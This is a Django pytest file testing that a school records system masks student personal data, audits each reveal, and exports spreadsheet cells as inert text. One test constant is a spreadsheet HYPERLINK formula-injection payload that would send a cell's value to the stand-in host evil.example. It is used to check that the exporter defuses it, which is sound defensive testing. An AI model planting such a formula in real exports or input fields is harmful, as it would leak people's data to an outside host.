"""Personal data of students leaves masked unless asked for by a role that may reveal it
(audited with fields, subjects and rows), and exported cells are never live formulas."""

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from openvet.core.models import AuditAction, AuditEntry
from openvet.identity.api.testing import bearer
from openvet.records.bulk.columns import columns_of
from openvet.records.oneroster.exporter import oneroster_export
from openvet.records.tests.conftest import People
from openvet.records.tests.factories import student

pytestmark = pytest.mark.django_db
LINK = '=HYPERLINK("http://evil.example/?d="&E2,"Details")'


@pytest.fixture(autouse=True)
def _no_totp(settings: Any) -> None:
    settings.REQUIRE_ADMIN_TOTP = False


def _client(user: Any) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(user)
    return client


def _masked(value: str) -> str:
    return value[:6] + "*" * (len(value) - 10) + value[-4:]


def test_the_api_masks_id_numbers_even_for_an_admin_who_does_not_ask(people: People) -> None:
    body = _client(people.admin).get("/api/v1/records/students").json()
    assert [item["id_number"] for item in body["items"]] == [_masked(people.student.id_number)]
    detail = _client(people.admin).get(f"/api/v1/records/students/{people.student.pk}").json()
    assert detail["id_number"] == _masked(people.student.id_number)
    assert not AuditEntry.objects.filter(action=AuditAction.REVEAL).exists()


def test_an_admin_who_asks_gets_clear_numbers_and_one_audit_entry(people: People) -> None:
    other = student(people.campus)
    body = _client(people.admin).get("/api/v1/records/students", {"reveal": "pii"}).json()
    assert sorted(item["id_number"] for item in body["items"]) == sorted(
        [people.student.id_number, other.id_number]
    )
    entry = AuditEntry.objects.get(action=AuditAction.REVEAL)
    assert (entry.actor_id, entry.object_label, entry.changes) == (
        people.admin.pk,
        "api students",
        {
            "fields": ["id_number"],
            "subjects": sorted([f"student:{people.student.pk}", f"student:{other.pk}"]),
            "rows": 2,
        },
    )


def test_a_role_without_reveal_asking_gets_masked_numbers_and_no_audit(people: People) -> None:
    response = _client(people.head).get(
        f"/api/v1/records/students/{people.student.pk}", {"reveal": "pii"}
    )
    assert response.json()["id_number"] == _masked(people.student.id_number)
    assert not AuditEntry.objects.filter(action=AuditAction.REVEAL).exists()


@pytest.mark.parametrize(
    ("scopes", "clear"), [(("read",), False), (("read", "write"), False), (("read", "pii"), True)]
)
def test_a_token_reveals_only_with_the_pii_scope(
    people: People, scopes: tuple[str, ...], clear: bool
) -> None:
    response = Client().get(
        f"/api/v1/records/students/{people.student.pk}",
        {"reveal": "pii"},
        headers=bearer(people.admin, scopes=scopes),
    )
    expected = people.student.id_number if clear else _masked(people.student.id_number)
    assert (response.status_code, response.json()["id_number"]) == (200, expected)
    assert AuditEntry.objects.filter(action=AuditAction.REVEAL).count() == int(clear)


def _column(key: str) -> int:
    """0-based position of a column of the student export (the import template's)."""
    return [column.key for column in columns_of("student")].index(key)


def _csv(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


ADDRESS = "Zhejiang Hangzhou Xihu 90"


def test_exports_mask_by_default_and_audit_a_reveal(people: People) -> None:
    people.student.guardian_phone = "13912345678"
    people.student.household_registration = ADDRESS
    people.student.save()
    url = reverse("records-bulk:export-students")
    client = _client(people.admin)
    row = _csv(client.get(url, {"format": "csv"}))[1]
    assert (
        row[_column("id_number")],
        row[_column("guardian_phone")],
        row[_column("household_registration")],
    ) == (_masked(people.student.id_number), "139****5678", "Zhejia" + "*" * 19)
    assert not AuditEntry.objects.filter(action=AuditAction.REVEAL).exists()
    row = _csv(client.get(url, {"format": "csv", "reveal": "pii"}))[1]
    assert (
        row[_column("id_number")],
        row[_column("guardian_phone")],
        row[_column("household_registration")],
    ) == (people.student.id_number, "13912345678", ADDRESS)
    entry = AuditEntry.objects.get(action=AuditAction.REVEAL)
    assert (entry.org_id, entry.changes) == (
        people.campus.school.pk,
        {
            "fields": ["guardian_phone", "household_registration", "id_number"],
            "subjects": [f"student:{people.student.pk}"],
            "rows": 1,
        },
    )


def test_a_formula_in_a_name_is_exported_as_inert_text_in_csv(people: People) -> None:
    people.student.name = LINK
    people.student.save()
    response = _client(people.admin).get(reverse("records-bulk:export-students"), {"format": "csv"})
    row = _csv(response)[1]
    assert (row[_column("name")], row[_column("grade_year")]) == ("'" + LINK, "2024")


def test_a_formula_in_a_name_is_exported_as_a_text_cell_in_xlsx(people: People) -> None:
    people.student.name = LINK
    people.student.save()
    response = _client(people.admin).get("/api/v1/records/exports/students", {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = sheet[2]
    name, year = row[_column("name")], row[_column("grade_year")]
    assert (name.value, name.data_type) == (LINK, "s")
    assert (year.value, year.data_type) == (2024, "n")


@pytest.mark.parametrize(("role", "offered"), [("admin", True), ("head", False)])
def test_the_list_offers_the_clear_export_only_to_roles_that_may_reveal(
    people: People, role: str, offered: bool
) -> None:
    client = _client(getattr(people, role))
    response = client.get(reverse("records:student-list"), HTTP_ACCEPT_LANGUAGE="zh-hans")
    page = response.content.decode()
    assert ("format=xlsx&amp;reveal=pii" in page, "导出（含个人信息明文）" in page) == (
        offered,
        offered,
    )


def test_the_record_page_masks_the_household_registration_until_revealed(people: People) -> None:
    people.student.household_registration = ADDRESS
    people.student.save()
    url = reverse("records:student-detail", args=[people.student.pk])
    client = _client(people.admin)
    masked = client.get(url).content.decode()
    assert (ADDRESS in masked, "Zhejia" + "*" * 19 in masked) == (False, True)
    assert ADDRESS in client.get(url, {"reveal": "pii"}).content.decode()
    entry = AuditEntry.objects.get(action=AuditAction.REVEAL)
    assert entry.changes["fields"] == ["household_registration", "id_number"]


def test_a_oneroster_bundle_carries_id_numbers_only_when_asked(
    people: People, tmp_path: Any
) -> None:
    oneroster_export(actor=people.admin, school=people.campus.school, directory=tmp_path / "a")
    assert people.student.id_number not in (tmp_path / "a" / "users.csv").read_text()
    assert not AuditEntry.objects.filter(action=AuditAction.REVEAL).exists()
    oneroster_export(
        actor=people.admin, school=people.campus.school, directory=tmp_path / "b", reveal=True
    )
    assert people.student.id_number in (tmp_path / "b" / "users.csv").read_text()
    entry = AuditEntry.objects.get(action=AuditAction.REVEAL)
    assert (entry.object_label, entry.changes) == (
        "export oneroster",
        {"fields": ["id_number"], "subjects": [f"student:{people.student.pk}"], "rows": 1},
    )
